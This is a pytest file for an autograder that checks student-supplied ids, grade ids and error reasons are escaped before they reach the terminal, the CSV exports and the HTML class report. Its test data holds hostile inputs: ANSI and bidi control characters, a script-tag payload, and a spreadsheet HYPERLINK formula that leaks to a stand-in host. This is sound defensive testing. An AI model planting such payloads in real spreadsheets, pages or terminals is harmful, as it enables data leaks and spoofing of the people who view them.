"""Text from a submission is data: an escape sequence, a carriage return, a spreadsheet formula or a
script in a student id, a grade id or a reason arrives harmless on the terminal, in the CSV files
and in the class report."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from rich.console import Console

from autograder.authoring import build
from autograder.batch import display
from autograder.batch.class_report import render_class_report
from autograder.batch.export import write_grades_csv, write_test_summary_csv
from autograder.batch.intake import Intake, from_zip, show
from autograder.batch.outcome import Outcome, Submission, Unplaced
from autograder.batch.results import TestScore as Score
from autograder.batch.sanitize import escape_controls, for_csv, for_html, for_terminal

ESCAPE = "\x1b[31m"
FORMULA = '=HYPERLINK("http://evil.example/?leak","click")'
SCRIPT = "<script>alert(1)</script>"
STUDENT = f"{FORMULA}{ESCAPE}eve\r{SCRIPT}"
GRADE_ID = f"{FORMULA}{ESCAPE}\rtest{SCRIPT}"
REASON = f"{FORMULA} cell 3 raised {ESCAPE}ValueError\x1b[0m\rall good\u202e {SCRIPT}"
#: What must never reach a terminal, a CSV file or the page as it is.
RAW = ("\x1b", "\r", "\u202e", "\x9b")


def _hostile() -> list[Outcome]:
    return [
        Outcome(STUDENT, "images", "graded", (Score(GRADE_ID, 1, 1), Score("test_scale", 0, 1)), 2.0,
                review=(REASON,), notes=(f"{ESCAPE}note\r",)),
        Outcome(STUDENT, "pooling", "failed", reason=REASON, worker=f"host{ESCAPE}:1"),
    ]


def _clean(text: str) -> None:
    for char in RAW:
        assert char not in text, repr(char)


# --- the functions -----------------------------------------------------------------------------


@pytest.mark.parametrize("raw, shown", [
    ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
    ("a\rb\nc\td", "a\\rb\\nc\\td"),
    ("\x00\x07\x7f", "\\x00\\x07\\x7f"),
    ("\x9b31m", "\\x9b31m"),  # C1: the one-byte CSI
    ("\u202eevil\u202c \u2066x\u2069 \u200f", "\\u202eevil\\u202c \\u2066x\\u2069 \\u200f"),
    ("line\u2028next", "line\\u2028next"),
    ("Zoë 李 ok\\x1b", "Zoë 李 ok\\x1b"),
])
def test_the_terminal_sees_every_control_character_escaped(raw, shown):
    assert for_terminal(raw) == shown


def test_escape_controls_keeps_only_what_it_is_told():
    assert escape_controls("a\tb\nc\rd", keep="\t\n") == "a\tb\nc\\rd"


@pytest.mark.parametrize("raw, cell", [
    (FORMULA, "'" + FORMULA),
    ("+1+1", "'+1+1"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "\\r=1+1"),
    ("alice", "alice"),
    ("a = b", "a = b"),
    ("two\nlines", "two\nlines"),
    (f"{ESCAPE}x", "\\x1b[31mx"),
    ("", ""),
])
def test_a_csv_cell_never_starts_a_formula_nor_carries_a_control_character(raw, cell):
    assert for_csv(raw) == cell


def test_html_is_escaped_with_its_control_characters_shown():
    assert str(for_html(f"{SCRIPT}{ESCAPE}&\n")) == \
        "&lt;script&gt;alert(1)&lt;/script&gt;\\x1b[31m&amp;\n"
    assert str(for_html(3)) == "3"
    from markupsafe import Markup
    assert for_html(Markup("<svg/>")) == Markup("<svg/>")


# --- where the text goes -------------------------------------------------------------------------


def test_the_lines_and_the_summary_on_the_terminal():
    lines = [display.line(o) for o in _hostile()]
    for text in lines:
        _clean(text)
        assert "\n" not in text
    assert "\\x1b[31meve\\r<script>" in lines[0]
    assert "REVIEW: =HYPERLINK(" in lines[0] and "NOTE: \\x1b[31mnote\\r" in lines[0]
    assert for_terminal(REASON) in lines[1]
    out = io.StringIO()
    display.summary(_hostile(), Console(file=out, width=400), wall_seconds=1, where="here")
    _clean(out.getvalue())
    assert "\\x1b[31meve" in out.getvalue()


def test_the_plan_table_of_the_intake(tmp_path):
    intake = Intake(
        (Submission(STUDENT, "images", tmp_path / "x.ipynb", f"c.zip:{STUDENT}_1_2_images.ipynb"),),
        (Unplaced(f"c.zip:{ESCAPE}_1_2_x.ipynb", f"c.zip:{ESCAPE}_1_2_x.ipynb: {REASON}"),),
        (Unplaced(f"c.zip:{SCRIPT}", f"c.zip:{SCRIPT}: superseded\r by another"),))
    out = io.StringIO()
    show(intake, Console(file=out, width=400))
    text = out.getvalue()
    _clean(text)
    assert "c.zip:\\x1b[31m_1_2_x.ipynb" in text
    assert for_terminal(REASON) in text
    assert "superseded\\r by another" in text


def test_a_zip_member_named_to_drive_the_terminal(repo, tmp_path):
    course = build.make_course(repo, tmp_path / "course")
    member = f"{FORMULA}{ESCAPE}\r_1_2_images.ipynb"
    path = tmp_path / "canvas.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(member, (repo / "release" / "images" / "images.ipynb").read_bytes())
    result = from_zip(course, path, ["images"])
    assert result.submissions == ()
    [refused] = result.unplaced
    assert "which holds a path separator, '+', '*' or a control character" in refused.reason
    out = io.StringIO()
    show(result, Console(file=out, width=400))
    _clean(out.getvalue())
    assert not (course / "submitted").exists() or not any((course / "submitted").iterdir())


def test_grades_csv_and_test_summary_csv(tmp_path):
    for write in (write_grades_csv, write_test_summary_csv):
        path = write(_hostile(), tmp_path / f"{write.__name__}.csv")
        _clean(path.read_text(encoding="utf-8"))
        with open(path, encoding="utf-8", newline="") as handle:
            table = list(csv.reader(handle))
        for row in table:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    with open(tmp_path / "write_grades_csv.csv", encoding="utf-8", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    graded = dict(zip(header, rows[0]))
    failed = dict(zip(header, rows[1]))
    assert graded["student_id"] == "'" + FORMULA + "\\x1b[31meve\\r" + SCRIPT
    column = "images:" + escape_controls(GRADE_ID)
    assert column in header and graded[column] == "1"
    assert failed["reason"] == "'" + escape_controls(REASON, keep="\t\n")
    assert graded["review"].startswith("'=HYPERLINK(")
    with open(tmp_path / "write_test_summary_csv.csv", encoding="utf-8", newline="") as handle:
        summary = list(csv.DictReader(handle))
    assert summary[0]["grade_id"] == for_csv(GRADE_ID) and summary[0]["grade_id"].startswith("'=")


def test_the_class_report(tmp_path):
    html = render_class_report(_hostile(), title=f"course {ESCAPE}<b>", budget="smoke", workers=1,
                               wall_seconds=3.0)
    _clean(html)
    assert "<script" not in html.lower() and "<b>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "\\x1b[31meve\\r&lt;script&gt;" in html
    assert "course \\x1b[31m&lt;b&gt;" in html
    assert "\\u202e" in html
